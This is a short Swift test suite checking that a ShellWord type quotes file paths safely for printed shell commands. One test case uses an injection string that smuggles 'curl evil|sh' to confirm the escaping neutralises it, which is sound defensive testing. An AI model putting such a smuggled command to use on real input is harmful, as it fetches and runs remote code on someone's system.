import ProjectAdoption
import Testing

@Suite struct ShellWords {
    @Test(arguments: [
        ("/tmp/My App", "'/tmp/My App'"),
        ("/tmp/Bob's App", #"'/tmp/Bob'\''s App'"#),
        ("x';curl evil|sh;'", #"'x'\'';curl evil|sh;'\'''"#),
        ("", "''"),
    ])
    func `a path in a printed command is one word of the shell`(text: String, quoted: String) {
        #expect(ShellWord(text).description == quoted)
    }
}
